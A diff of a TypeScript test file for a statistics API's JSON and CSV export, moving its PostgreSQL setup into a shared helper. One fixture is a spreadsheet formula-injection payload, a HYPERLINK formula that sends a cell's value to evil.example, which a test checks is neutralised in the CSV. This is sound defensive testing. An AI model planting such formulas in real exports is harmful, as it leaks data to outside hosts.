@@ -1,36 +1,27 @@
 /** GET /api/v1/stats/registrations(.csv) against a real PostgreSQL cluster, data ingested through the batch route. */
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startPgCluster, type PgCluster } from '../../tests/support/pg-cluster.ts';
-import { build, type CentralApp } from '../src/app.ts';
-import type { Db } from '../src/db/db.ts';
-import { migrate } from '../src/db/migrations.ts';
-import { createPostgresDb } from '../src/db/postgres-db.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { BatchRecordInput } from '@lmc/protocol/batch.ts';
+import { useCentralOnPg } from './central-on-pg.ts';
 import { makeDevice, makeRecord, sendBatch } from './fixtures.ts';
 import { addStaff, signIn, TEST_AUTH } from './staff.ts';
 
 const bbr = makeDevice('bbr-01', 'BBR');
 const hre = makeDevice('hre-01', 'HRE');
 
-let cluster: PgCluster;
-let db: Db;
-let app: CentralApp;
 let admin: string;
 let statistician: string;
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Gwanda")';
 
 const times = (n: number, f: (i: number) => BatchRecordInput) => Array.from({ length: n }, (_, i) => f(i));
 
-beforeAll(async () => {
-  cluster = await startPgCluster();
-  db = createPostgresDb(cluster.url);
-  await migrate(db);
-  app = build({ db, devices: [bbr.config, hre.config], auth: TEST_AUTH });
-  await app.ready();
+const central = useCentralOnPg({ devices: [bbr.config, hre.config], auth: TEST_AUTH }, async (db) => {
   await addStaff(db, 'stats-admin', 'admin');
   await addStaff(db, 'stats-statistician', 'statistician');
-  admin = await signIn(app, 'stats-admin');
-  statistician = await signIn(app, 'stats-statistician');
+});
+
+beforeAll(async () => {
+  admin = await signIn(central.app, 'stats-admin');
+  statistician = await signIn(central.app, 'stats-statistician');
   // BBR March: 7 (3 returning; 4 men, 3 women aged 28 at finalisation).
   const bbrMarch = times(7, (i) =>
     makeRecord('BBR', { returning: i < 3, sex: i < 4 ? 'M' : 'F', birthDate: i < 4 ? '1980-06-01' : '1996-04-02' }, '2025-03-10T09:30:00+02:00'),
@@ -47,21 +38,15 @@ beforeAll(async () => {
     [bbr, [...bbrMarch, ...bbrApril]],
     [hre, [...hreMarch, hreBoundary]],
   ] as const) {
-    const { json } = await sendBatch(app, dev, [...records]);
+    const { json } = await sendBatch(central.app, dev, [...records]);
     expect(json().stored).toHaveLength(records.length);
   }
-});
-
-afterAll(async () => {
-  await app?.close();
-  await db?.close();
-  await cluster?.stop();
 });
 
 /** As the admin, unsuppressed unless the query asks for publication; as anyone else, as asked. */
 async function stats(query: string, cookie = admin) {
   const microdata = cookie !== admin || /publication=/.test(query) ? '' : '&publication=false';
-  return app.inject({ method: 'GET', url: `/api/v1/stats/registrations?${query}${microdata}`, headers: { cookie } });
+  return central.app.inject({ method: 'GET', url: `/api/v1/stats/registrations?${query}${microdata}`, headers: { cookie } });
 }
 
 describe('registration statistics', () => {
@@ -142,20 +127,20 @@ describe('registration statistics', () => {
 
 describe('registration statistics as CSV', () => {
   it('exports the published table with suppressed cells empty', async () => {
-    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025', headers: { cookie: statistician } });
+    const res = await central.app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025', headers: { cookie: statistician } });
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.body).toBe('office,count,returning,suppressed,returningSuppressed\r\nBBR,10,,false,true\r\nHRE,7,0,false,false\r\n');
   });
 
   it('refuses the CSV without a session', async () => {
-    const res = await app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025' });
+    const res = await central.app.inject({ method: 'GET', url: '/api/v1/stats/registrations.csv?groupBy=office&year=2025' });
     expect(res.statusCode).toBe(401);
     expect(res.body).not.toMatch(/BBR/);
   });
 
   it('neutralises a district a spreadsheet would run as a formula', async () => {
-    const res = await app.inject({
+    const res = await central.app.inject({
       method: 'GET',
       url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-03-15&to=2025-03-15&publication=false',
       headers: { cookie: admin },
@@ -167,7 +152,7 @@ describe('registration statistics as CSV', () => {
   });
 
   it('quotes fields holding commas and quotes per RFC 4180', async () => {
-    const res = await app.inject({
+    const res = await central.app.inject({
       method: 'GET',
       url: '/api/v1/stats/registrations.csv?groupBy=district&from=2025-04-01&to=2025-04-30&publication=false',
       headers: { cookie: admin },
